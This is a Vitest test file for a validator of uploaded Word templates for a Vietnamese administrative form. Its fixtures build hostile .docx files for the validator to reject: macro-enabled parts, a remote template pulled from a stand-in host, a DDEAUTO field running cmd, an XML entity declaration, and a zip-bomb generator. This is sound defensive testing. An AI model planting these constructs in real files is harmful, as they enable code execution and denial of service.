import { deflateRawSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { openWord, pack, tagsOf } from '../../src/documents/docx.ts';
import { builtInTemplate } from '../../src/documents/forms.ts';
import { validateTemplate } from '../../src/documents/validate.ts';
import { unzip } from '../../src/documents/zip.ts';

const original = await builtInTemplate('TT05-02');

/** The guidance form with one part of its file changed, as an office might bring it. */
function changed(part: string, change: (xml: string) => string): Buffer {
  const parts = new Map<string, Buffer | string>(openWord(original));
  parts.set(part, change(openWord(original).get(part)?.toString('utf8') ?? ''));
  return pack(parts);
}

const inText = (change: (xml: string) => string): Buffer => changed('word/document.xml', change);
const problemsOf = (content: Uint8Array): readonly string[] => {
  const verdict = validateTemplate(content, 'TT05-02');
  return verdict.ok ? [] : verdict.problems;
};

describe('mẫu tải lên', () => {
  test('sửa câu chữ mà giữ các thẻ thì được nhận, kèm bản điền thử', () => {
    const verdict = validateTemplate(
      inText((xml) => xml.replace('PHIẾU HƯỚNG DẪN', 'PHIẾU HƯỚNG DẪN CÔNG DÂN')),
      'TT05-02',
    );
    expect(verdict.ok && openWord(verdict.previewData).get('word/document.xml')?.toString()).toContain(
      'PHIẾU HƯỚNG DẪN CÔNG DÂN',
    );
  });

  test('thẻ bị Word chia thành nhiều đoạn chạy vẫn đọc được', () => {
    const split = inText((xml) => xml.replace('{người ký}', '{người</w:t></w:r><w:r><w:t> ký}'));
    expect(problemsOf(split)).toEqual([]);
  });

  test('không phải tệp nén', () => {
    expect(problemsOf(Buffer.from('Đây là văn bản thường'))).toEqual(['Tệp không phải là tệp Word (.docx).']);
    expect(problemsOf(Buffer.alloc(0))).toEqual(['Tệp không phải là tệp Word (.docx).']);
    expect(problemsOf(original.subarray(0, 2000))).toEqual(['Tệp không phải là tệp Word (.docx).']);
  });

  test('bảng tính đổi đuôi', () => {
    const sheet = pack(
      new Map([
        [
          '[Content_Types].xml',
          '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        ],
        ['xl/workbook.xml', '<workbook/>'],
      ]),
    );
    expect(problemsOf(sheet)).toEqual(['Tệp không phải là tệp Word (.docx).']);
  });

  test('tệp có macro', () => {
    const types = changed('[Content_Types].xml', (xml) =>
      xml.replace(
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        'application/vnd.ms-word.document.macroEnabled.main+xml',
      ),
    );
    expect(problemsOf(types)[0]).toContain('macro');
    expect(problemsOf(changed('word/vbaProject.bin', () => 'x'))[0]).toContain('macro');
  });

  test('tệp lấy nội dung từ bên ngoài hoặc có trường chạy lệnh', () => {
    const outside = changed('word/_rels/document.xml.rels', (xml) =>
      xml.replace(
        '</Relationships>',
        '<Relationship Id="rId9" Type="http://x/attachedTemplate" Target="http://xau.example/t.dotm" TargetMode="External"/></Relationships>',
      ),
    );
    expect(problemsOf(outside)[0]).toContain('http://xau.example/t.dotm');
    const field = inText((xml) =>
      xml.replace('<w:tbl>', '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:r></w:p><w:tbl>'),
    );
    expect(problemsOf(field)[0]).toContain('DDEAUTO');
    expect(problemsOf(inText((xml) => `<!DOCTYPE a [<!ENTITY b "c">]>${xml}`))[0]).toContain('bị hỏng');
  });

  test('thiếu thẻ bắt buộc', () => {
    expect(problemsOf(inText((xml) => xml.replace('{người ký}', 'Hoàng Thị Bích Ngọc')))).toEqual([
      'Mẫu thiếu thẻ bắt buộc {người ký}.',
    ]);
  });

  test('thẻ không có trong mẫu', () => {
    expect(problemsOf(inText((xml) => xml.replace('{xưng hô}', '{xưng hô}{số điện thoại}')))).toEqual([
      'Thẻ {số điện thoại} không có trong mẫu này.',
    ]);
  });

  test('đoạn lặp không đóng, dấu ngoặc thừa, thẻ chèn mã', () => {
    expect(problemsOf(inText((xml) => xml.replace('{/nơi nhận}', '')))[0]).toBe(
      'Đoạn lặp hoặc điều kiện {#nơi nhận} chưa có thẻ đóng {/nơi nhận}.',
    );
    expect(problemsOf(inText((xml) => xml.replace('{người ký}', '{người ký')))[0]).toContain(
      'chưa có dấu } đóng',
    );
    expect(problemsOf(inText((xml) => xml.replace('{dòng}', '{@dòng}')))[0]).toContain('{dòng}');
  });

  test('tệp nén phình to khi mở bị chặn', () => {
    expect(() => unzip(bomb(60 * 1024 * 1024))).toThrow('quá lớn');
  });
});

test('liệt kê thẻ của mẫu, thẻ trong đoạn lặp có tên đoạn lặp ở trước', () => {
  expect(tagsOf(original)).toEqual(
    expect.arrayContaining(['người ký', 'nơi nhận', 'nơi nhận/dòng', 'cần bổ sung/nội dung bổ sung/dòng']),
  );
});

/** A zip whose one file claims to be empty and inflates to so many bytes. */
function bomb(bytes: number): Buffer {
  const packed = deflateRawSync(Buffer.alloc(bytes));
  const name = Buffer.from('a');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(packed.length, 20);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(local.length + name.length + packed.length, 16);
  return Buffer.concat([local, name, packed, central, name, end]);
}
